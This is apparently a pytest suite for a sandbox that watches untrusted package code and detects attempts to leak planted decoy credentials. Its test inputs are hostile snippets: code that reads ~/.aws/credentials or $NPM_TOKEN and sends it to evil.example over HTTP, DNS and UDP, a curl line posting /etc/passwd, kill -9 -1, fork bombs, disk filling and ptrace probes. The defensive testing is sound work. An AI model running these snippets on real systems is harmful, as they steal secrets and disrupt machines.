# ruff: noqa: S108 - inside the sandbox, where /tmp is private
"""What a watched program does is seen, and no program makes its own record lie."""

import dataclasses
import errno
import json
import socket
import sys
import threading
import time

import pytest

from plugins.sandbox import Limits, availability
from plugins.sandbox.limits import MIB
from plugins.sandbox.watch import Decoys, Phase, unavailable, watch
from plugins.sandbox.watch.contract import PHASE_LIMITS
from plugins.sandbox.watch.sink.__main__ import Place
from plugins.sandbox.watch.sink.dns import unanswered
from plugins.sandbox.watch.sink.packets import Packets
from plugins.sandbox.watch.sink.record import Output, Record
from tests.support import available

QUICK = dataclasses.replace(PHASE_LIMITS, wall_seconds=4)


@pytest.fixture(scope="module", autouse=True)
def _possible():
    if availability():
        pytest.fail(f"no sandbox here: {availability()}")
    assert unavailable() is None


def python(code, name="import", **more):
    return Phase(name, ("/usr/bin/python3", "-I", "-c", code), **more)


def shell(code, name="install", **more):
    return Phase(name, ("/bin/sh", "-c", code), **more)


def node(code, **more):
    return Phase("import", ("node", "-e", code), **more)


def one(phase, **more):
    (record,) = watch([phase], **more).phases
    return record


def changed(record):
    return {file.path for file in record.files if file.write or file.delete}


# --- what is seen ---


def test_files_commands_names_and_connections_are_seen_with_their_times():
    record = one(
        node(
            """
            const fs = require('fs'), https = require('https');
            require('child_process').execSync('echo hi > /tmp/x; rm /tmp/x');
            const ask = https.request({host: 'api.example.com', path: '/v1?q=1', method: 'POST'}, answer => {
                answer.resume(); answer.on('end', () => process.exit(0));
            });
            ask.end('body');
            """
        )
    )

    assert (record.complete, record.problems, record.returncode) == (True, (), 0)
    (written,) = [file for file in record.files if file.path == "/tmp/x"]
    assert (written.write, written.delete) == (True, True)
    assert [command.argv for command in record.commands] == [
        ("/bin/sh", "-c", "echo hi > /tmp/x; rm /tmp/x"),
        ("rm", "/tmp/x"),
    ]
    assert [(event.hostname, event.types) for event in record.dns] == [("api.example.com", ("A", "AAAA"))]
    (request,) = record.http
    assert (request.method, request.scheme, request.host, request.path, request.sni, request.body_bytes) == (
        "POST", "https", "api.example.com", "/v1?q=1", "api.example.com", 4,
    )  # fmt: skip
    (socket,) = record.sockets
    assert (socket.port, socket.hostnames, socket.listening) == (443, ("api.example.com",), False)
    assert 0 < record.commands[0].at < record.http[0].at < record.duration


def test_a_program_that_is_not_there_is_seen_as_well():
    record = one(
        python(
            "import subprocess\n"
            "for argv in (['ffmpeg', '-version'], ['true', 'it']):\n"
            "    try: subprocess.run(argv)\n"
            "    except FileNotFoundError: pass\n"
        )
    )

    assert [(command.argv, command.path) for command in record.commands] == [
        (("ffmpeg", "-version"), ""),
        (("true", "it"), "/usr/bin/true"),
    ]


def test_each_program_that_is_not_there_is_seen_also_where_another_one_starts_then():
    record = one(
        python(
            "import os\n"
            "if os.fork() == 0:\n"
            "    for argv in (['ls'], ['curl', '-d@/etc/passwd', 'evil.example'], ['true', 'x']):\n"
            "        try: os.execv('/none/' + argv[0], argv)\n"
            "        except OSError: pass\n"
            "    try: os.execv('/none/wget', ['true', 'x'])\n"
            "    except OSError: os.execv('/bin/true', ['true', 'x'])\n"
            "os.wait()\n"
        )
    )

    assert [command.argv for command in record.commands] == [
        ("ls",),
        ("curl", "-d@/etc/passwd", "evil.example"),
        ("wget", "x"),
        ("true", "x"),
    ]
    assert [command.path for command in record.commands] == ["", "", "", "/bin/true"]


def test_attempts_at_programs_are_bounded_and_it_is_said():
    record = one(
        python(
            "import os\nfor n in range(5100):\n    try: os.execv('/none', ['none', str(n)])\n    except OSError: pass\n"
        )
    )

    assert (record.complete, len(record.commands)) == (False, 5000)
    assert record.problems == ("More than 5,000 programs were started; the rest is left out.",)


def test_python_speaks_to_the_sink_too():
    record = one(python("import urllib.request as u; print(u.urlopen('https://pypi.example.org/x').read())"))

    assert record.stdout == b"b'{}'\n"
    assert [(request.method, request.host, request.path) for request in record.http] == [
        ("GET", "pypi.example.org", "/x")
    ]


def test_an_address_without_a_name_is_seen_whether_or_not_anybody_answers():
    record = one(
        python(
            "import socket\n"
            "for to in [('203.0.113.9', 4444), ('203.0.113.9', 1)]:\n"
            "    try: socket.create_connection(to, 2).send(b'hello')\n"
            "    except OSError as problem: print(problem)\n"
            "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('203.0.113.10', 9999))\n"
        )
    )

    assert {(socket.address, socket.port) for socket in record.sockets} == {
        ("203.0.113.9", 4444),
        ("203.0.113.9", 1),
        ("203.0.113.10", 9999),
    }


def test_who_listens_is_seen():
    record = one(python("import socket; s = socket.socket(); s.bind(('0.0.0.0', 1880)); s.listen()"))

    assert [(socket.address, socket.port, socket.listening) for socket in record.sockets] == [("0.0.0.0", 1880, True)]


@pytest.mark.parametrize(
    ("code", "encoding"),
    [
        ("t", "plain"),
        ("t[::-1]", "reversed"),
        ("t.encode().hex()", "hex"),
        ("base64.b64encode(b'{\"a\":\"' + t.encode() + b'\"}').decode()", "base64"),
        ("base64.b32encode(t.encode()).decode()", "base32"),
    ],
)
def test_a_decoy_that_leaves_is_known_again_in_another_form(code, encoding):
    record = one(
        python(
            "import base64, os, urllib.request as u\n"
            "t = open(os.path.expanduser('~/.aws/credentials')).read().split()[-1]\n"
            f"u.urlopen('http://evil.example/', data=({code}).encode())\n"
        )
    )

    assert [decoy.name for decoy in record.decoys] == ["~/.aws/credentials"]
    assert {(leak.name, leak.channel, leak.target, leak.encoding) for leak in record.leaks} == {
        ("~/.aws/credentials", "http", "evil.example", encoding)
    }


def test_a_variable_that_leaves_through_names_is_known_again():
    record = one(
        python(
            "import os, socket\n"
            "t = os.environ['NPM_TOKEN']\n"
            "try: socket.gethostbyname(t[:12] + '.' + t[12:] + '.x.evil.example')\n"
            "except OSError: pass\n"
        )
    )

    assert [(leak.name, leak.channel) for leak in record.leaks] == [("$NPM_TOKEN", "dns")]


@pytest.mark.parametrize(
    ("sent", "encoding"),
    [
        ("t[:12], t[12:]", "plain, in parts"),
        ("t[16:], t[:8], t[8:16]", "plain, in parts"),
        ("t.upper()[:12], t.upper()[12:]", "plain, in parts"),
        ("base64.b64encode(t.encode()).decode()[:16], base64.b64encode(t.encode()).decode()[16:]", "base64, in parts"),
    ],
    ids=["halves", "thirds out of order", "capitals", "encoded"],
)
def test_a_decoy_that_leaves_in_parts_is_known_again(sent, encoding):
    record = one(
        python(
            "import base64, os, urllib.request as u\n"
            "t = os.environ['NPM_TOKEN']\n"
            f"for part in ({sent}): u.urlopen('http://evil.example/?p=' + part).read()\n"
        )
    )

    assert {(leak.name, leak.encoding) for leak in record.leaks} == {("$NPM_TOKEN", encoding)}


def test_a_part_alone_is_no_decoy_that_left():
    record = one(
        python("import os, urllib.request as u; u.urlopen('http://evil.example/?p=' + os.environ['NPM_TOKEN'][:10])")
    )

    assert (record.complete, record.leaks) == (True, ())


@pytest.mark.parametrize(
    "send",
    [
        "s.sendto(t, (to, 9999))",
        "s.connect((to, 9999)); os.write(s.fileno(), t)",
        "s.sendto(t[:12], (to, 123)); s.sendto(t[12:], (to, 124))",
        "s.bind(('', 54)); s.sendmsg([b'x' * 9000, t], [], 0, (to, 9999))",
        "s.sendto(t, (to, 53))",
        "s.sendto(query + t, (to, 53))",
        "s.sendto(query[:10] + b'\\0\\1' + query[12:] + b'\\0\\0\\x29\\4\\0\\0\\0\\0\\0\\0\\x18' + t, (to, 53))",
        "s.sendto(query[:2] + t[:10] + query[12:], (to, 53)); s.sendto(query + t[10:], (to, 53))",
        "s.sendto(query[:12] + bytes([63]) + b'x' * 63 + bytes([10]) + t, (to, 53))",
        "s.sendto(query[:12] + (bytes([63]) + b'x' * 63) * 4 + bytes([24]) + t + query[-5:], (to, 53))",
        "s.sendto(query + b'x' * 5000 + t, (to, 53))",
    ],
    ids=[
        "sent", "written", "in parts", "behind much else", "to the resolver", "behind a query", "in its options",
        "in its header", "in a query that breaks off", "in a name too long", "behind much else to the resolver",
    ],
)  # fmt: skip
@pytest.mark.parametrize("to", ["203.0.113.9", "2001:db8::9"])
def test_a_decoy_that_leaves_in_datagrams_is_known_again(send, to):
    family = "AF_INET6" if ":" in to else "AF_INET"
    record = one(
        python(
            "import os, socket\n"
            f"t, to = os.environ['NPM_TOKEN'].encode(), {to!r}\n"
            "query = bytes.fromhex('123401000001000000000000') + b'\\1a\\7example\\0\\0\\1\\0\\1'\n"
            f"s = socket.socket(socket.{family}, socket.SOCK_DGRAM)\n" + send
        )
    )

    assert record.complete
    assert {(leak.name, leak.channel, leak.target) for leak in record.leaks} == {("$NPM_TOKEN", "udp", to)}
    assert {socket.address for socket in record.sockets} == {to}


@pytest.mark.parametrize(
    ("extra", "behind", "left"),
    [
        (0, b"", b""),
        (1, b"\0\0\x29\4\xd0\0\0\0\0\0\0", b""),
        (1, b"\0\0\x29\4\xd0\0\0\0\0\0\5hello", b"hello"),
        (1, b"\0\0\x29\4\xd0\0\0\0\0\0\4hello", b"\0\0\x29\4\xd0\0\0\0\0\0\4hello"),
        (0, b"hello", b"hello"),
    ],
    ids=["plain", "with EDNS", "with options", "with a wrong length", "with something behind"],
)
def test_of_a_query_only_what_the_resolver_does_not_read_is_left_to_search(extra, behind, left):
    head = bytes.fromhex("1234012000010000000000") + bytes([extra])

    assert unanswered(head + b"\1a\7example\0\0\1\0\1" + behind) == left


@pytest.mark.parametrize(
    ("made", "channel"),
    [
        ("socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_UDPLITE)", "udp"),
        ("socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_UDPLITE); s.bind(('', 53))", "udp"),
        ("socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.setsockopt(41, 57, routing)", "ip"),
    ],
    ids=["UDP-Lite", "UDP-Lite from the resolver's port", "behind a routing header"],
)
def test_a_decoy_that_leaves_in_other_packets_is_known_again(made, channel):
    """41 is IPPROTO_IPV6, 57 IPV6_RTHDR; the header is of type 4 (RFC 8754): anybody may set it."""
    record = one(
        python(
            "import os, socket\n"
            "t, to = os.environ['NPM_TOKEN'].encode(), '203.0.113.9'\n"
            "routing = bytes([0, 2, 4, 0, 0, 0, 0, 0]) + socket.inet_pton(socket.AF_INET6, '2001:db8::9')\n"
            f"try: s = {made}\n"
            "except OSError as problem: raise SystemExit(problem.errno)\n"
            "if s.family == socket.AF_INET6: to = '2001:db8::9'\n"
            "s.sendto(b'x' * 2000 + t, (to, 9999))\n"
        )
    )

    if record.returncode in {errno.EPROTONOSUPPORT, errno.EINVAL}:
        pytest.skip("this kernel has no UDP-Lite, or no segment routing")
    assert (record.complete, record.stderr) == (True, b"")
    assert {(leak.name, leak.channel) for leak in record.leaks} == {("$NPM_TOKEN", channel)}


@pytest.mark.filterwarnings("ignore::pytest.PytestUnhandledThreadExceptionWarning")
@pytest.mark.parametrize("breaks", [True, False])
def test_a_server_of_the_sink_that_dies_leaves_no_whole_record(monkeypatch, capsys, breaks):
    served = threading.Event()

    def serve(_self, packets):
        packets.recv(10)
        served.set()
        if breaks:
            raise RuntimeError("a fault of ours")

    monkeypatch.setattr(Packets, "serve", serve)
    near, far = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    with near:
        place = Place(Record(Output(), 0, {}), [[], [], [far.detach()]], pytest.fail)
        near.send(b"x")
        assert served.wait(10)
        place.close()
        place.finish(time.monotonic() + 10)

    assert [json.loads(line)["kind"] for line in capsys.readouterr().out.splitlines()] == ["full"] * breaks


def test_gzip_hides_no_decoy():
    record = one(
        python(
            "import gzip, os, urllib.request as u\n"
            "u.urlopen('http://evil.example/', data=gzip.compress(os.environ['NPM_TOKEN'].encode()))\n"
        )
    )

    assert [leak.name for leak in record.leaks] == ["$NPM_TOKEN"]


@pytest.mark.parametrize(
    "ending",
    ["time.sleep(11)", "s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0)); s.close()"],
    ids=["never", "with a reset"],
)
def test_a_request_that_is_not_ended_hides_no_decoy(ending):
    record = one(
        python(
            "import os, socket, struct, time\n"
            "s = socket.create_connection(('203.0.113.9', 80))\n"
            "s.send(b'POST / HTTP/1.1\\r\\nContent-Length: 999\\r\\n\\r\\n' + os.environ['NPM_TOKEN'].encode())\n"
            + ending
        )
    )

    assert [(leak.name, leak.target) for leak in record.leaks] == [("$NPM_TOKEN", "203.0.113.9")]


def test_who_takes_every_place_of_the_sink_leaves_no_whole_record():
    record = one(
        python(
            "import socket, time\n"
            "c = [socket.create_connection(('203.0.113.9', 80)) for _ in range(130)]; time.sleep(1)"
        )
    )

    assert not record.complete
    assert "More was sent than is written down; the rest is left out." in record.problems


def test_no_socket_passes_the_network_namespace():
    record = one(
        python(
            "import socket\n"
            "for family, kind in [(40, 1), (38, 5), (1, 1), (2, 1), (16, 3)]:\n"
            "    try: socket.socket(family, kind); print('made')\n"
            "    except OSError as problem: print(problem.errno)\n"
        )
    )

    assert record.stdout.split() == [b"97", b"97", b"made", b"made", b"made"]


def test_decoys_are_other_ones_in_each_run():
    assert not set(Decoys.new().tokens.values()) & set(Decoys.new().tokens.values())


def test_each_phase_has_its_own_record_and_a_fresh_home():
    first, second = watch(
        [shell("echo 1 > ~/left; cat ~/.npmrc"), shell("ls ~/left; nslookup x; true", name="import")]
    ).phases

    assert [decoy.name for decoy in first.decoys] == ["~/.npmrc"]
    assert (second.decoys, b"left" in second.stdout) == ((), False)
    assert max(first.started, second.started) < min(first.started + first.duration, second.started + second.duration)


def test_phases_one_at_a_time_where_that_is_asked_for():
    first, second = watch([shell("sleep 0.2"), shell("true", name="import")], together=1).phases

    assert first.started + first.duration <= second.started


def test_no_phase_hears_another_or_writes_into_its_record():
    first, second = watch(
        [
            python("import time, urllib.request as u; time.sleep(1); u.urlopen('http://a.example/first')"),
            python(
                "import socket, time, urllib.request as u\n"
                "s = socket.socket(); s.bind(('127.0.0.1', 7001)); s.listen(); s.settimeout(3)\n"
                "u.urlopen('http://b.example/second')\n"
                "try: s.accept()\n"
                "except TimeoutError: print('nobody')\n",
                name="tests",
            ),
        ]
    ).phases

    assert [request.path for request in first.http] == ["/first"]
    assert [request.path for request in second.http] == ["/second"]
    assert ([event.hostname for event in first.dns], second.stdout) == (["a.example"], b"nobody\n")


def test_more_phases_than_one_sink_serves_have_their_own_records():
    records = watch([shell(f"echo > /tmp/{number}", name=f"install {number}") for number in range(10)]).phases

    assert [changed(record) for record in records] == [{f"/tmp/{number}"} for number in range(10)]
    assert all(record.complete for record in records)


def test_what_is_done_in_the_last_moment_is_seen():
    record = one(
        python(
            "import atexit, os, socket\n"
            "def last():\n"
            "    open('/tmp/last', 'w').close()\n"
            "    s = socket.create_connection(('203.0.113.9', 80))\n"
            "    s.send(b'POST /late HTTP/1.1\\r\\nHost: late.example\\r\\nContent-Length: 24\\r\\n\\r\\n')\n"
            "    s.send(os.environ['NPM_TOKEN'].encode())\n"
            "    os._exit(0)\n"
            "atexit.register(last)\n"
        )
    )

    assert (record.complete, changed(record)) == (True, {"/tmp/last"})
    assert [(request.path, request.body_bytes) for request in record.http] == [("/late", 24)]
    assert [leak.name for leak in record.leaks] == ["$NPM_TOKEN"]


def test_what_prepares_a_phase_is_not_in_its_record():
    record = one(shell("cat /tmp/made", prepare="echo made > /tmp/made; cat ~/.npmrc"))

    assert (changed(record), record.decoys, record.commands) == (set(), (), record.commands)
    assert record.stdout.endswith(b"made\n")


# --- who tries to lie ---


@pytest.mark.parametrize(
    "name",
    [
        "a>b) = 3<x>",
        'quote" and \\ back',
        "new\nline",
        "<unfinished ...>",
        "é\x01\x1b[2J",
        "+++ exited with 0 +++",
    ],
)
def test_a_hostile_file_name_is_one_file_of_that_name(name):
    record = one(python(f"import os; open('/tmp/' + {name!r}, 'w'); os.unlink('/tmp/' + {name!r})"))

    assert record.complete
    assert changed(record) == {f"/tmp/{name}"}


def test_paths_are_told_from_the_folder_they_are_relative_to():
    record = one(shell("mkdir -p /tmp/a/b; cd /tmp/a/b; echo > x; cd ..; rm b/x; mv b ../c; ln -s /etc/passwd link"))

    assert {"/tmp/a/b/x", "/tmp/a/b", "/tmp/c", "/tmp/a/link"} <= changed(record)
    (file,) = [file for file in record.files if file.path == "/tmp/a/b/x"]
    assert (file.write, file.delete) == (True, True)


def test_a_decoy_read_through_a_link_is_a_decoy_read():
    assert [d.name for d in one(shell("ln -s ~/.npmrc /tmp/innocent; cat /tmp/innocent")).decoys] == ["~/.npmrc"]


def test_no_descriptor_of_the_observer_is_open_inside():
    record = one(
        python(
            "import os\n"
            "for fd in range(3, 256):\n"
            "    try: os.write(fd, b'1 1.0 execve(\"/bin/lie\", [\"lie\"], 0x0) = 0\\n'); print('wrote', fd)\n"
            "    except OSError: pass\n"
        )
    )

    assert (record.complete, record.commands, record.stdout) == (True, (), b"")


def test_no_process_of_ours_can_be_seen_killed_or_traced():
    record = one(
        python(
            "import ctypes, os, signal\n"
            "print(sorted(int(p) for p in os.listdir('/proc') if p.isdigit()) == [1, os.getpid()])\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "print(libc.ptrace(0, 0, 0, 0), ctypes.get_errno(), libc.ptrace(16, 1, 0, 0), ctypes.get_errno())\n"
            "try: print(open('/proc/1/environ').read())\n"
            "except OSError as problem: print(problem.errno)\n"
        )
    )

    assert record.stdout.decode().splitlines() == ["True", "-1 1 -1 1", "13"]


def test_who_kills_everybody_only_ends_itself_and_leaves_its_record():
    record = one(
        shell("cat ~/.npmrc >/dev/null; kill -9 1; kill -9 -1; kill -9 $PPID; cat ~/.netrc; sleep 60", limits=QUICK)
    )

    assert [decoy.name for decoy in record.decoys] == ["~/.npmrc", "~/.netrc"]
    assert (record.complete, record.timed_out) == (True, True)


def test_a_daemon_does_not_outlive_its_phase():
    first, second = watch(
        [
            python(
                "import os, time, urllib.request as u\n"
                "if os.fork() == 0:\n"
                "    os.setsid()\n"
                "    if os.fork() == 0:\n"
                "        time.sleep(2); u.urlopen('http://late.example/')\n"
                "    os._exit(0)\n"
            ),
            python("import time; time.sleep(3)", name="tests"),
        ]
    ).phases

    assert (first.complete, second.complete) == (True, True)
    assert (first.http, second.http, second.dns) == ((), (), ())


def test_a_child_that_asks_not_to_be_watched_is_not_made():
    record = one(
        python(
            "import ctypes\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "print(libc.syscall(56, 0x00800000 | 17, 0, 0, 0, 0), ctypes.get_errno())\n"
        )
    )

    assert record.stdout == b"-1 1\n"


def test_the_hosts_own_services_are_not_there():
    host, port = available.REDIS
    record = one(
        python(
            f"import socket; s = socket.create_connection(({host!r}, {port}), 2); s.settimeout(1)\n"
            "try: s.send(b'PING\\r\\n'); print(s.recv(10))\n"
            "except OSError: print('silence')\n"
        )
    )

    assert record.stdout == b"silence\n"
    assert [(socket.address, socket.port) for socket in record.sockets] == [(host, port)]


# --- who does too much ---


def test_who_forks_without_end_is_contained():
    record = one(python("import os\nwhile True:\n    try: os.fork()\n    except OSError: pass\n", limits=QUICK))

    assert (record.timed_out, record.duration < 20) == (True, True)


def test_who_sleeps_is_ended():
    record = one(shell("cat ~/.npmrc; sleep 600", limits=QUICK))

    assert (record.timed_out, [decoy.name for decoy in record.decoys]) == (True, ["~/.npmrc"])
    assert record.ending == "It was stopped after 4 seconds."


def test_who_fills_the_disk_gets_no_further_than_its_own_tmp():
    record = one(
        shell(
            "head -c 900M /dev/zero > /tmp/a; head -c 900M /dev/zero > ~/b; df -k /tmp | tail -1", limits=PHASE_LIMITS
        )
    )

    used = int(record.stdout.split()[2])
    assert used <= PHASE_LIMITS.tmp_bytes // 1024
    assert record.complete


def test_who_prints_without_end_is_stopped_and_what_is_kept_is_short():
    record = one(shell("while true; do printf '\\033[2J\\033]0;owned\\007%01000d' 0; done", limits=QUICK))

    assert (record.truncated, record.timed_out) == (True, False)
    assert len(record.stdout) <= 512 * 1024


def test_who_holds_too_much_memory_over_many_processes_is_ended():
    record = one(
        python(
            "import os, time\n"
            "for _ in range(12):\n"
            "    if os.fork() == 0:\n"
            "        x = bytearray(os.urandom(1)) * (256 << 20); time.sleep(30)\n"
            "time.sleep(30)\n",
            limits=Limits(wall_seconds=15, memory_bytes=4096 * MIB, tmp_bytes=16 * MIB),
        )
    )

    assert not record.complete
    assert "1536 MiB of memory" in " ".join(record.problems)
    assert record.duration < 14


def test_a_record_that_grows_without_end_is_cut_and_says_so():
    record = one(
        python(
            "import os\nwhile True:\n    try: os.unlink('/tmp/none')\n    except OSError: pass\n",
            limits=dataclasses.replace(PHASE_LIMITS, wall_seconds=120, cpu_seconds=120),
        )
    )

    assert not record.complete
    assert "The record ends after 400,000 system calls." in record.problems


def test_many_files_are_cut_and_it_is_said(tmp_path):
    record = one(python("for n in range(6000): open(f'/tmp/{n}', 'w').close()"))

    assert not record.complete
    assert "More than 5,000 files were touched; the rest is left out." in record.problems


def test_phases_after_a_hostile_one_are_recorded_all_the_same():
    first, second = watch([shell("kill -9 -1", limits=QUICK), shell("cat ~/.netrc", name="import")]).phases

    assert (first.complete, second.complete) == (True, True)
    assert [decoy.name for decoy in second.decoys] == ["~/.netrc"]


def test_a_missing_observer_is_said_with_what_to_install(monkeypatch):
    from plugins.sandbox.watch import run  # noqa: PLC0415

    run.observer.cache_clear()
    monkeypatch.setattr(
        "plugins.sandbox.command.shutil.which", lambda name: None if name == "strace" else f"/usr/bin/{name}"
    )

    assert unavailable() == "The program strace is missing. Install it with: apt-get install strace util-linux"
    run.observer.cache_clear()


def test_the_interpreter_of_this_portal_can_be_watched():
    assert one(Phase("import", (sys.executable, "-c", "print(1)"))).returncode in {0, 126, 127}
